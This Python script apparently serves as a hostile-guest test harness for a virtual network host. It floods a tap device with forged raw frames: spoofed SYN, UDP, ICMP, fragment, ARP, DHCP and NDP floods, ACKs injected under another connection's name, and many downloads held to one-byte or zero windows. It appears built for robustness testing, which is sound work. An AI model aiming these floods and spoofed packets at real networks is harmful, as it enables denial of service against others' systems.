"""A hostile guest: `attacker.py KIND SECONDS [ADDRESS PORT ...]`, run inside its namespace as root. Tells what it sent.

It writes frames of its own making to the tap, as fast as it can, until the time is over. Their sender is 192.0.2.77:
the guest's kernel does not know it, and so does not take back what was sent in its name. `windows` also reads what
comes for that address: it has connections of its own (`Download`).
"""

import ctypes
import fcntl
import json
import random
import socket
import struct
import sys
import time
from collections.abc import Iterator

SIOCGIFHWADDR = 0x8927  # netdevice(7)
SO_ATTACH_FILTER = 26  # socket(7)
ETH_P_IP = 0x0800
INTERFACE = next(name for _, name in socket.if_nameindex() if name != "lo")
HOST_MAC = bytes.fromhex("9a559a559a55")
SENDER = bytes([192, 0, 2, 77])
GATEWAY = bytes([192, 0, 2, 1])
SENDER6 = socket.inet_pton(socket.AF_INET6, "fe80::77")
ROUND = 20000  # frames made beforehand, and sent in turn

rng = random.Random(7)


def hardware_address(interface: str) -> bytes:
    """The guest's own: with another one it would take everybody's answers away from itself (D17)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return fcntl.ioctl(sock, SIOCGIFHWADDR, struct.pack("256s", interface.encode()))[18:24]


MINE = hardware_address(INTERFACE)


def sum16(data: bytes) -> int:
    rest = int.from_bytes(data + b"\0" * (len(data) & 1), "big") % 0xFFFF
    return 0xFFFF ^ (rest or 0xFFFF)


def ip(protocol: int, dst: bytes, payload: bytes, *, number: int = 0, offset: int = 0, src: bytes = SENDER) -> bytes:
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), number, offset, 64, protocol, 0, src, dst)
    head = head[:10] + struct.pack("!H", sum16(head)) + head[12:]
    return HOST_MAC + MINE + b"\x08\0" + head + payload


def transport(protocol: int, src: bytes, dst: bytes, data: bytes, at: int) -> bytes:
    """Write the checksum at its place."""
    pseudo = src + dst + struct.pack("!BBH" if len(src) == 4 else "!xxHI", *(
        (0, protocol, len(data)) if len(src) == 4 else (len(data), protocol)))  # fmt: skip
    return data[:at] + struct.pack("!H", sum16(pseudo + data)) + data[at + 2 :]


def segment(
    sport: int, dst: bytes, dport: int, flags: int, seq: int, ack: int = 0, src: bytes = SENDER, window: int = 1
) -> bytes:
    data = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, window, 0, 0)
    return ip(6, dst, transport(6, src, dst, data, 16), src=src)


def datagram(sport: int, dst: bytes, dport: int, payload: bytes) -> bytes:
    data = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    return ip(17, dst, transport(17, SENDER, dst, data, 6))


def syn(dst: bytes, dport: int) -> Iterator[bytes]:
    for _ in range(ROUND):
        src = SENDER[:3] + bytes([rng.randrange(70, 250)])
        yield segment(rng.randrange(1024, 65536), dst, dport, 0x02, rng.randrange(1 << 32), src=src)


def udp(dst: bytes, dport: int) -> Iterator[bytes]:
    for number in range(ROUND):
        yield datagram(10000 + number, dst, dport, b"sweep")


def ping(dst: bytes, dport: int) -> Iterator[bytes]:
    for number in range(ROUND):
        data = struct.pack("!BBHHH", 8, 0, 0, number, 1) + b"ping"
        yield ip(1, dst, data[:2] + struct.pack("!H", sum16(data)) + data[4:])


def fragments(dst: bytes, dport: int) -> Iterator[bytes]:
    for number in range(ROUND):
        yield ip(17, dst, bytes(1480), number=number, offset=0x2000)


def arp(dst: bytes, dport: int) -> Iterator[bytes]:
    for number in range(ROUND):
        asked = bytes([192, 0, 2, 1 + number % 250])
        body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, MINE, SENDER, bytes(6), asked)
        yield b"\xff" * 6 + MINE + b"\x08\x06" + body


def dhcp(dst: bytes, dport: int) -> Iterator[bytes]:
    """DISCOVER with as many options as an Ethernet frame takes."""
    for number in range(ROUND // 20):
        message = struct.pack("!BBBBIHH16s6s", 1, 1, 6, 0, number, 0, 0, bytes(16), MINE) + bytes(202)
        options = b"\x63\x82\x53\x63\x35\x01\x01" + bytes([43, 0]) * 580
        yield datagram(68, b"\xff" * 4, 67, message + options)


def ndp(dst: bytes, dport: int) -> Iterator[bytes]:
    """Neighbour solicitations with as many options as a frame takes, of kinds that nobody knows."""
    target = socket.inet_pton(socket.AF_INET6, "fe80::1")
    for number in range(ROUND // 20):
        body = struct.pack("!BBHI", 135, 0, 0, 0) + target + bytes([200 + number % 50, 1, *bytes(6)]) * 175
        body = transport(58, SENDER6, target, body, 2)
        head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255)
        yield HOST_MAC + MINE + b"\x86\xdd" + head + SENDER6 + target + body


def acks(dst: bytes, dport: int, sport: int, src: str) -> Iterator[bytes]:
    """Acknowledgements in the name of a connection that there is, with numbers that are none of its."""
    for _ in range(ROUND):
        numbers = rng.randrange(1 << 32), rng.randrange(1 << 32)
        yield segment(sport, dst, dport, 0x10, *numbers, src=socket.inet_aton(src))


class Download:
    """A connection whose window is one byte, and closed after every `CLOSE` bytes until it is probed twice."""

    CLOSE = 100

    def __init__(self, sock: socket.socket, sport: int, dst: bytes, dport: int) -> None:
        self.sock, self.ends = sock, (sport, dst, dport)
        self.opened = False
        self.next = 0  # byte of the server's
        self.edge = 0  # behind what it may send
        self.got = self.most = self.beyond = self.closed = self.probes = self.sent = self.lost = 0

    def say(self, flags: int, seq: int, window: int) -> None:
        self.edge = max(self.edge, self.next + window)
        self.sent += 1
        try:
            self.sock.send(segment(*self.ends, flags, seq, self.next & 0xFFFFFFFF, window=window))
        except OSError:  # the queue of the tap is full
            self.lost += 1

    def open(self) -> None:
        self.say(0x02, 1000, 1)

    def hear(self, flags: int, seq: int, length: int) -> None:
        """Take a segment of the server's and acknowledge it."""
        if flags & 0x02:
            if not self.opened:
                self.opened, self.next, self.edge = True, seq + 1, seq + 2
            self.say(0x10, 1001, 1)
            return
        if not self.opened or flags & 0x04:
            return
        ahead = (seq - self.next + 0x80000000 & 0xFFFFFFFF) - 0x80000000
        self.most = max(self.most, length)
        self.beyond += length > 0 and ahead + length > self.edge - self.next
        if length and ahead == 0:
            self.next += length
            self.got += length
            if self.got % self.CLOSE == 0:
                self.closed += 1
                self.probes = 2
        elif not length and self.probes:
            self.probes -= 1
        self.say(0x10, 1001, 0 if self.probes else 1)


def windows(sock: socket.socket, seconds: float, dst: bytes, dport: int, count: int) -> dict[str, float]:
    """Open so many downloads and acknowledge each byte as it comes."""
    # Only what is for SENDER: ldw [30]; jeq SENDER; accept; drop (linux/filter.h)
    code = ((0x20, 0, 0, 30), (0x15, 0, 1, int.from_bytes(SENDER, "big")), (0x06, 0, 0, 0xFFFF), (0x06, 0, 0, 0))
    program = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *line) for line in code))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, struct.pack("HP", len(code), ctypes.addressof(program)))
    sock.bind((INTERFACE, ETH_P_IP))
    sock.settimeout(0.5)
    downloads = {sport: Download(sock, sport, dst, dport) for sport in range(20000, 20000 + count)}
    begin = 0.0
    while not begin or time.monotonic() - begin < seconds:
        if not begin and all(download.opened for download in downloads.values()):
            sys.stdout.write("ready\n")
            sys.stdout.flush()
            begin = time.monotonic()
        try:
            frame = sock.recv(70000)
        except TimeoutError:
            for download in downloads.values():
                if not download.opened:
                    download.open()
            continue
        sport, seq, offset, flags = int.from_bytes(frame[36:38], "big"), *struct.unpack("!I4xBB", frame[38:48])
        length = int.from_bytes(frame[16:18], "big") - 20 - (offset >> 4) * 4
        downloads[sport].hear(flags, seq, length)
    names = ("sent", "lost", "got", "beyond", "closed")
    total: dict[str, float] = {
        name: sum(getattr(download, name) for download in downloads.values()) for name in names
    }  # fmt: skip
    least, most = min(download.got for download in downloads.values()), max(one.most for one in downloads.values())
    return total | {"least": least, "most": most, "seconds": time.monotonic() - begin}


def main() -> None:
    kind, seconds, *rest = sys.argv[1:]
    address, port, *more = rest or ("192.0.2.1", "9")
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    if kind == "windows":
        said = windows(sock, float(seconds), socket.inet_aton(address), int(port), int(more[0]))
        sys.stdout.write(json.dumps(said) + "\n")
        return
    extra = (int(more[0]), more[1]) if more else ()
    frames = list(globals()[kind](socket.inet_aton(address), int(port), *extra))
    sock.bind((INTERFACE, 0))
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    begin = now = time.monotonic()
    sent = lost = 0
    while now - begin < float(seconds):
        for frame in frames[sent % len(frames) :][:500]:
            try:
                sock.send(frame)
            except OSError:  # the queue of the tap is full
                lost += 1
            sent += 1
        now = time.monotonic()
    sys.stdout.write(json.dumps({"sent": sent, "lost": lost, "seconds": now - begin}) + "\n")


if __name__ == "__main__":
    main()
